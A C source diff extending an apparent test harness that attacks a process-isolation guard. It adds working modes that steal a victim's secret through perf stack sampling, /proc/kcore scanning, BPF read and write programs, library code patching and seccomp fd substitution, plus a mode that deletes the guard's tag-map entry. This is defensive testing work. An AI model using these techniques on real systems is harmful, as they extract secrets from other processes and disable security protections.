@@ -9,22 +9,68 @@
  *     iouring PATH ADDR                   IORING_OP_OPENAT + IORING_OP_READ of PATH
  *     getfd PID FD                        pidfd_getfd
  *     sigqueue PID                        sigqueue(SIGUSR2) with a payload (an "APC")
+ *     sigio PID                           F_SETOWN + F_SETSIG(SIGUSR2) on a pipe, then a write: a
+ *                                         queued signal with a payload from a file (exit 0 = sent)
+ *     oldfd PATH ADDR r|w                 opens PATH (a /proc/P/mem-like file), prints "opened",
+ *                                         waits for a line on stdin, then reads or writes at ADDR
+ *     perf PID|cpu                        samples PID (or every CPU) with the user stack; 0 = the
+ *                                         secret showed up in the samples within 3 s
+ *     uprobepmu PATH OFFSET               perf_event_open on the uprobe PMU (exit 0 = opened)
+ *     kcore INVHEX                        scans /proc/kcore's RAM for the bytes whose bitwise
+ *                                         inverse is INVHEX (0 = found)
+ *     bpf KIND PID ADDR [BINARY]          loads evil.bpf.o (next to this program) program KIND
+ *                                         (tp_read tp_write rawtp_read kprobe_read uprobe_read
+ *                                         iter_read; socket_filter, lsm_load: only loads), prints
+ *                                         "attached"; 0 = it read (or wrote)
+ *                                         the secret within 5 s (uprobe_read: ADDR is the
+ *                                         victim's "hook", the file offset of compare_secret in
+ *                                         BINARY, the victim's executable)
+ *     untag pin PATH PID | untag id - PID deletes PID's entry from the guard's tag map, found by
+ *                                         its pin or among all map ids (BPF_MAP_DELETE_ELEM with
+ *                                         a pidfd key)
+ *     code HOW LIB                        changes lib_answer() of LIB (a copy of libsidedoor.so)
+ *                                         from "return 42" to "return 1337". HOW: open (a new
+ *                                         O_WRONLY open), write, truncate, ftruncate, fallocate,
+ *                                         copy, mmap (the last five through an fd opened first:
+ *                                         prints "opened", waits for a line on stdin)
+ *     supervise PATH CMD…                 runs CMD under a seccomp user-notification filter on
+ *                                         openat; an open with flags O_RDONLY|O_NOFOLLOW (the
+ *                                         victim's "open") gets an fd of PATH instead
+ *                                         (SECCOMP_IOCTL_NOTIF_ADDFD)
+ *     kmod FILE | kexec FILE              finit_module / kexec_file_load of FILE
+ *     devmem PATH                         opens PATH (/dev/mem, /dev/port)
  * Exit status: 0 the attack worked, 1 it was refused with EPERM/EACCES, 2 another failure.
  * (A caller killed by the kill backend exits with 137 as seen by the shell.)
  */
 #define _GNU_SOURCE
+#include <bpf/bpf.h>
+#include <bpf/libbpf.h>
+#include <elf.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <limits.h>
+#include <linux/filter.h>
+#include <linux/perf_event.h>
+#include <linux/seccomp.h>
 #include <liburing.h>
+#include <poll.h>
 #include <signal.h>
+#include <stddef.h>
+#include <stdint.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
+#include <sys/mman.h>
+#include <sys/prctl.h>
 #include <sys/ptrace.h>
+#include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/uio.h>
 #include <sys/wait.h>
+#include <time.h>
 #include <unistd.h>
+#include <asm/perf_regs.h>
 
 static const char payload[] = "PWNED";
 
@@ -94,6 +140,324 @@ static int via_iouring(const char *path, unsigned long addr) {
     return n < 0 ? refused("io_uring read", -n) : worked("io_uring openat+read");
 }
 
+static void wait_for_go(void) {
+    puts("opened");
+    char line[16];
+    if (!fgets(line, sizeof line, stdin)) exit(2);
+}
+
+static double now(void) {
+    struct timespec t;
+    clock_gettime(CLOCK_MONOTONIC, &t);
+    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
+}
+
+static int via_sigio(pid_t pid) {
+    int p[2];
+    if (pipe(p)) return 2;
+    if (fcntl(p[0], F_SETOWN, pid)) return refused("F_SETOWN", errno);
+    if (fcntl(p[0], F_SETSIG, SIGUSR2)) return refused("F_SETSIG", errno);
+    if (fcntl(p[0], F_SETFL, O_ASYNC | O_NONBLOCK)) return refused("O_ASYNC", errno);
+    if (write(p[1], "x", 1) != 1) return 2;
+    usleep(100000);
+    return worked("SIGIO sent");
+}
+
+static int via_oldfd(const char *path, unsigned long addr, int write) {
+    int fd = open(path, O_RDWR);
+    if (fd < 0) fd = open(path, O_RDONLY);
+    if (fd < 0) return refused(path, errno);
+    wait_for_go();
+    char buf[sizeof payload];
+    ssize_t n = write ? pwrite(fd, payload, sizeof payload, (off_t)addr) : pread(fd, buf, sizeof buf, (off_t)addr);
+    if (n < 0) return refused(write ? "pwrite (old fd)" : "pread (old fd)", errno);
+    return worked(write ? "write through the old fd" : "read through the old fd");
+}
+
+/* Scans a buffer for the secret. */
+static int has_secret(const void *data, size_t len) { return memmem(data, len, "IUM-SECRET", 10) != NULL; }
+
+static int via_perf(const char *who) {
+    int cpu_wide = !strcmp(who, "cpu");
+    long ncpu = cpu_wide ? sysconf(_SC_NPROCESSORS_ONLN) : 1;
+    struct perf_event_attr a = {0};
+    a.size = sizeof a;
+    a.type = PERF_TYPE_SOFTWARE;
+    a.config = PERF_COUNT_SW_CPU_CLOCK;
+    a.sample_period = 200000; /* ns */
+    a.sample_type = PERF_SAMPLE_TID | PERF_SAMPLE_REGS_USER | PERF_SAMPLE_STACK_USER;
+    a.sample_regs_user = (1ULL << PERF_REG_X86_SP) | (1ULL << PERF_REG_X86_IP);
+    a.sample_stack_user = 4096;
+    a.exclude_kernel = 1;
+    a.exclude_hv = 1;
+    size_t pages = 1 + 64, page = (size_t)sysconf(_SC_PAGESIZE);
+    void *rings[64];
+    for (long c = 0; c < ncpu && c < 64; c++) {
+        int fd = (int)syscall(SYS_perf_event_open, &a, cpu_wide ? -1 : atoi(who), cpu_wide ? (int)c : -1, -1, 0);
+        if (fd < 0) return refused("perf_event_open", errno);
+        rings[c] = mmap(NULL, pages * page, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+        if (rings[c] == MAP_FAILED) return refused("perf mmap", errno);
+    }
+    puts("attached");
+    for (double end = now() + 3; now() < end; usleep(50000))
+        for (long c = 0; c < ncpu && c < 64; c++) {
+            struct perf_event_mmap_page *meta = rings[c];
+            uint64_t head = __atomic_load_n(&meta->data_head, __ATOMIC_ACQUIRE);
+            if (has_secret((char *)rings[c] + page, (pages - 1) * page)) return worked("perf: the secret is in the sampled user stack");
+            __atomic_store_n(&meta->data_tail, head, __ATOMIC_RELEASE); /* scanned: room for new samples */
+        }
+    printf("perf: samples taken, no secret in them\n");
+    return 3;
+}
+
+static int via_uprobe_pmu(const char *path, unsigned long offset) {
+    FILE *f = fopen("/sys/bus/event_source/devices/uprobe/type", "r");
+    int type = -1;
+    if (!f || fscanf(f, "%d", &type) != 1) return 2;
+    fclose(f);
+    struct perf_event_attr a = {0};
+    a.size = sizeof a;
+    a.type = (unsigned)type;
+    a.config1 = (unsigned long)path;
+    a.config2 = offset;
+    int fd = (int)syscall(SYS_perf_event_open, &a, -1, 0, -1, 0);
+    return fd < 0 ? refused("perf_event_open (uprobe PMU)", errno) : worked("uprobe PMU event");
+}
+
+static int hexval(char c) { return c >= 'a' ? c - 'a' + 10 : c >= 'A' ? c - 'A' + 10 : c - '0'; }
+
+/* The bytes are kept inverted: this process never holds the secret unless it finds it. */
+static int via_kcore(const char *invhex) {
+    unsigned char inv[16];
+    size_t n = strlen(invhex) / 2;
+    if (n != sizeof inv) return 2;
+    for (size_t i = 0; i < n; i++) inv[i] = (unsigned char)(hexval(invhex[2 * i]) << 4 | hexval(invhex[2 * i + 1]));
+    int fd = open("/proc/kcore", O_RDONLY);
+    if (fd < 0) return refused("/proc/kcore", errno);
+    Elf64_Ehdr eh;
+    if (pread(fd, &eh, sizeof eh, 0) != sizeof eh) return refused("read /proc/kcore", errno);
+    size_t chunk = 1 << 20;
+    unsigned char *buf = malloc(chunk + n);
+    double start = now();
+    unsigned long scanned = 0;
+    for (int i = 0; i < eh.e_phnum; i++) {
+        Elf64_Phdr ph;
+        if (pread(fd, &ph, sizeof ph, (off_t)(eh.e_phoff + (unsigned long)i * eh.e_phentsize)) != sizeof ph) break;
+        /* RAM and the kernel image; not the vmalloc or vmemmap areas (terabytes of holes). */
+        if (ph.p_type != PT_LOAD || ph.p_memsz > (16UL << 30)) continue;
+        for (unsigned long off = 0; off < ph.p_memsz; off += chunk) {
+            ssize_t got = pread(fd, buf, chunk + n, (off_t)(ph.p_offset + off));
+            if (got < (ssize_t)n) continue;
+            scanned += (unsigned long)got;
+            for (unsigned char *p = buf; (p = memchr(p, (unsigned char)~inv[0], (size_t)(buf + got - n - p))) != NULL; p++) {
+                size_t k = 1;
+                while (k < n && (unsigned char)~p[k] == inv[k]) k++;
+                if (k == n) {
+                    printf("kcore: the secret is at kernel address 0x%lx (%lu MiB scanned in %.1fs)\n",
+                           (unsigned long)(ph.p_vaddr + off + (unsigned long)(p - buf)), scanned >> 20, now() - start);
+                    return 0;
+                }
+            }
+        }
+    }
+    printf("kcore: not found (%lu MiB scanned)\n", scanned >> 20);
+    return 3;
+}
+
+static int via_bpf(const char *kind, pid_t pid, unsigned long addr, const char *binary) {
+    char self[PATH_MAX], path[PATH_MAX + 16];
+    ssize_t len = readlink("/proc/self/exe", self, sizeof self - 1);
+    if (len < 0) return 2;
+    self[len] = 0;
+    snprintf(path, sizeof path, "%.*s/evil.bpf.o", (int)(strrchr(self, '/') - self), self);
+    libbpf_set_print(NULL);
+    struct bpf_object *obj = bpf_object__open_file(path, NULL);
+    if (!obj) { fprintf(stderr, "cannot open %s\n", path); return 2; }
+    struct bpf_program *prog, *chosen = NULL;
+    bpf_object__for_each_program(prog, obj) {
+        int mine = !strcmp(bpf_program__name(prog), kind);
+        bpf_program__set_autoload(prog, mine);
+        if (mine) chosen = prog;
+    }
+    if (!chosen) { fprintf(stderr, "no program %s\n", kind); return 64; }
+    int err = bpf_object__load(obj);
+    if (err) return refused("BPF program load", -err);
+    if (!strcmp(kind, "socket_filter") || !strcmp(kind, "lsm_load")) return worked("loaded");
+    unsigned zero = 0;
+    struct { unsigned tgid, pad; unsigned long addr; } config = {(unsigned)pid, 0, addr};
+    if (bpf_map_update_elem(bpf_map__fd(bpf_object__find_map_by_name(obj, "config")), &zero, &config, 0)) return 2;
+    struct bpf_link *link;
+    if (!strcmp(kind, "uprobe_read")) {
+        /* ADDR is compare_secret's file offset (the victim's "hook"); it reads argument 1 */
+        link = bpf_program__attach_uprobe(chosen, false, -1, binary, addr);
+    } else {
+        link = bpf_program__attach(chosen);
+    }
+    if (!link) return refused("BPF attach", errno);
+    struct { unsigned hits, pad; char bytes[32]; } result = {0};
+    int result_fd = bpf_map__fd(bpf_object__find_map_by_name(obj, "result"));
+    puts("attached");
+    for (double end = now() + 5; now() < end; usleep(20000)) {
+        if (!strcmp(kind, "iter_read")) {
+            int it = bpf_iter_create(bpf_link__fd(link));
+            char sink[256];
+            while (it >= 0 && read(it, sink, sizeof sink) > 0) {}
+            if (it >= 0) close(it);
+        }
+        if (bpf_map_lookup_elem(result_fd, &zero, &result)) return 2;
+        if (result.hits) {
+            if (strstr(kind, "write")) return worked("BPF: overwrote the secret");
+            result.bytes[21] = 0;
+            printf("BPF: read \"%s\"\n", result.bytes);
+            return has_secret(result.bytes, 21) ? 0 : 3;
+        }
+    }
+    printf("BPF: attached, never reached the secret\n");
+    return 3;
+}
+
+/* The guard's tag map among all maps, by id (BPF_MAP_GET_FD_BY_ID on each): its fd, or -1
+ * with errno EPERM when some map's fd was refused and none was the tag map. */
+static int tag_map_by_id(void) {
+    unsigned id = 0;
+    int refused_any = 0;
+    while (bpf_map_get_next_id(id, &id) == 0) {
+        int fd = bpf_map_get_fd_by_id(id);
+        if (fd < 0) { refused_any |= errno == EPERM || errno == EACCES; continue; }
+        struct bpf_map_info info = {0};
+        unsigned len = sizeof info;
+        if (bpf_obj_get_info_by_fd(fd, &info, &len) == 0 && !strcmp(info.name, "ium_tags")) return fd;
+        close(fd);
+    }
+    errno = refused_any ? EPERM : ENOENT;
+    return -1;
+}
+
+static int via_untag(const char *how, const char *where, pid_t pid) {
+    int fd = !strcmp(how, "pin") ? bpf_obj_get(where) : tag_map_by_id();
+    if (fd < 0) return refused(!strcmp(how, "pin") ? "BPF_OBJ_GET (tag map pin)" : "BPF_MAP_GET_FD_BY_ID (tag map)", errno);
+    int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
+    if (pidfd < 0) return 2;
+    if (bpf_map_delete_elem(fd, &pidfd)) return refused("BPF_MAP_DELETE_ELEM", errno);
+    return worked("untagged");
+}
+
+/* lib_answer() compiled: mov $42,%eax; ret → mov $1337,%eax; ret */
+static const unsigned char answer42[] = {0xb8, 0x2a, 0x00, 0x00, 0x00, 0xc3};
+static const unsigned char answer1337[] = {0xb8, 0x39, 0x05, 0x00, 0x00, 0xc3};
+
+static int via_code(const char *how, const char *lib) {
+    FILE *f = fopen(lib, "rb");
+    if (!f) return refused(lib, errno);
+    static unsigned char image[1 << 20];
+    size_t size = fread(image, 1, sizeof image, f);
+    fclose(f);
+    unsigned char *at = memmem(image, size, answer42, sizeof answer42);
+    if (!at) { fprintf(stderr, "%s: no lib_answer code\n", lib); return 2; }
+    off_t offset = at - image;
+    int fd = -1;
+    if (strcmp(how, "open") && strcmp(how, "truncate")) {
+        fd = open(lib, O_RDWR);
+        if (fd < 0) return refused("open O_RDWR", errno);
+        wait_for_go();
+    }
+    if (!strcmp(how, "open")) {
+        fd = open(lib, O_WRONLY);
+        if (fd < 0) return refused("open O_WRONLY", errno);
+        return pwrite(fd, answer1337, sizeof answer1337, offset) < 0 ? refused("pwrite", errno) : worked("patched");
+    }
+    if (!strcmp(how, "write"))
+        return pwrite(fd, answer1337, sizeof answer1337, offset) < 0 ? refused("pwrite (old fd)", errno) : worked("patched");
+    if (!strcmp(how, "truncate")) return truncate(lib, 0) ? refused("truncate", errno) : worked("truncated");
+    if (!strcmp(how, "ftruncate")) return ftruncate(fd, 0) ? refused("ftruncate", errno) : worked("truncated");
+    if (!strcmp(how, "fallocate")) {
+        off_t page = offset & ~(off_t)4095;
+        return fallocate(fd, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, page, 4096) ? refused("fallocate", errno) : worked("hole punched");
+    }
+    if (!strcmp(how, "copy")) {
+        char tmp[] = "/tmp/ium-patch.XXXXXX";
+        int src = mkstemp(tmp);
+        unlink(tmp);
+        if (src < 0 || write(src, answer1337, sizeof answer1337) != sizeof answer1337) return 2;
+        off_t in = 0, out = offset;
+        return copy_file_range(src, &in, fd, &out, sizeof answer1337, 0) < 0 ? refused("copy_file_range", errno) : worked("patched");
+    }
+    if (!strcmp(how, "mmap")) {
+        unsigned char *map = mmap(NULL, (size_t)size, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
+        if (map == MAP_FAILED) return refused("mmap MAP_SHARED PROT_WRITE", errno);
+        memcpy(map + offset, answer1337, sizeof answer1337);
+        msync(map, (size_t)size, MS_SYNC);
+        return worked("patched");
+    }
+    fprintf(stderr, "code: unknown HOW %s\n", how);
+    return 64;
+}
+
+/* A seccomp user-notification supervisor: the "man in the middle" of a program's openat. */
+static int via_supervisor(const char *substitute, char **cmd) {
+    struct sock_filter filter[] = {
+        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_openat, 0, 1),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
+        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+    };
+    struct sock_fprog prog = {sizeof filter / sizeof filter[0], filter};
+    int sv[2];
+    if (socketpair(AF_UNIX, SOCK_STREAM, 0, sv)) return 2;
+    pid_t child = fork();
+    if (child == 0) {
+        close(sv[0]);
+        int listener = (int)syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
+        if (listener < 0) { perror("seccomp"); _exit(2); }
+        /* hand the listener to the supervisor (SCM_RIGHTS) */
+        char c = 0;
+        struct iovec iov = {&c, 1};
+        char control[CMSG_SPACE(sizeof(int))] = {0};
+        struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
+        struct cmsghdr *cm = CMSG_FIRSTHDR(&msg);
+        cm->cmsg_level = SOL_SOCKET;
+        cm->cmsg_type = SCM_RIGHTS;
+        cm->cmsg_len = CMSG_LEN(sizeof(int));
+        memcpy(CMSG_DATA(cm), &listener, sizeof listener);
+        if (sendmsg(sv[1], &msg, 0) != 1) _exit(2);
+        close(listener);
+        close(sv[1]);
+        execvp(cmd[0], cmd);
+        _exit(127);
+    }
+    close(sv[1]);
+    char c;
+    struct iovec iov = {&c, 1};
+    char control[CMSG_SPACE(sizeof(int))];
+    struct msghdr msg = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
+    if (recvmsg(sv[0], &msg, 0) != 1) return 2;
+    int listener;
+    memcpy(&listener, CMSG_DATA(CMSG_FIRSTHDR(&msg)), sizeof listener);
+    int replacement = open(substitute, O_RDONLY);
+    if (replacement < 0) return 2;
+    struct seccomp_notif req;
+    struct seccomp_notif_resp resp;
+    for (;;) {
+        int status;
+        if (waitpid(child, &status, WNOHANG) == child) return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
+        /* RECV blocks for good once no task uses the filter: wait for a notification first */
+        struct pollfd p = {listener, POLLIN, 0};
+        if (poll(&p, 1, 100) <= 0 || !(p.revents & POLLIN)) continue;
+        memset(&req, 0, sizeof req);
+        if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req)) continue;
+        memset(&resp, 0, sizeof resp);
+        resp.id = req.id;
+        /* The victim's "open" is the only openat with exactly O_RDONLY|O_NOFOLLOW (no need to
+         * read its memory: the flags are in the notification). */
+        if ((int)req.data.args[2] == (O_RDONLY | O_NOFOLLOW)) {
+            struct seccomp_notif_addfd addfd = {.id = req.id, .flags = SECCOMP_ADDFD_FLAG_SEND, .srcfd = (unsigned)replacement};
+            if (ioctl(listener, SECCOMP_IOCTL_NOTIF_ADDFD, &addfd) >= 0) continue;
+        }
+        resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
+        ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
+    }
+}
+
 int main(int argc, char **argv) {
     int a = 1;
     if (argc > 3 && !strcmp(argv[1], "--uid")) {
@@ -128,6 +492,28 @@ int main(int argc, char **argv) {
     if (!strcmp(mode, "sigqueue")) {
         union sigval v = {.sival_int = 42};
         return sigqueue(pid, SIGUSR2, v) ? refused("sigqueue", errno) : worked("sigqueue");
+    }
+    if (!strcmp(mode, "sigio")) return via_sigio(pid);
+    if (!strcmp(mode, "oldfd") && argc - a > 3) return via_oldfd(x, addr, argv[a + 3][0] == 'w');
+    if (!strcmp(mode, "perf")) return via_perf(x);
+    if (!strcmp(mode, "uprobepmu")) return via_uprobe_pmu(x, addr);
+    if (!strcmp(mode, "kcore")) return via_kcore(x);
+    if (!strcmp(mode, "bpf") && argc - a > 3)
+        return via_bpf(x, (pid_t)atoi(argv[a + 2]), strtoul(argv[a + 3], NULL, 0), argc - a > 4 ? argv[a + 4] : "");
+    if (!strcmp(mode, "untag") && argc - a > 3) return via_untag(x, argv[a + 2], (pid_t)atoi(argv[a + 3]));
+    if (!strcmp(mode, "code") && argc - a > 2) return via_code(x, argv[a + 2]);
+    if (!strcmp(mode, "supervise") && argc - a > 2) return via_supervisor(x, argv + a + 2);
+    if (!strcmp(mode, "kmod") || !strcmp(mode, "kexec")) {
+        int fd = open(x, O_RDONLY);
+        if (fd < 0) return 2;
+        long r = !strcmp(mode, "kmod") ? syscall(SYS_finit_module, fd, "", 0)
+                                       : syscall(SYS_kexec_file_load, fd, fd, 1UL, "", 0UL);
+        /* a bogus file: EPERM/EACCES means refused before it was read */
+        return r == 0 ? worked(mode) : refused(mode, errno);
+    }
+    if (!strcmp(mode, "devmem")) {
+        int fd = open(x, O_RDONLY);
+        return fd < 0 ? refused(x, errno) : worked("opened");
     }
     fprintf(stderr, "attack: unknown mode %s\n", mode);
     return 64;
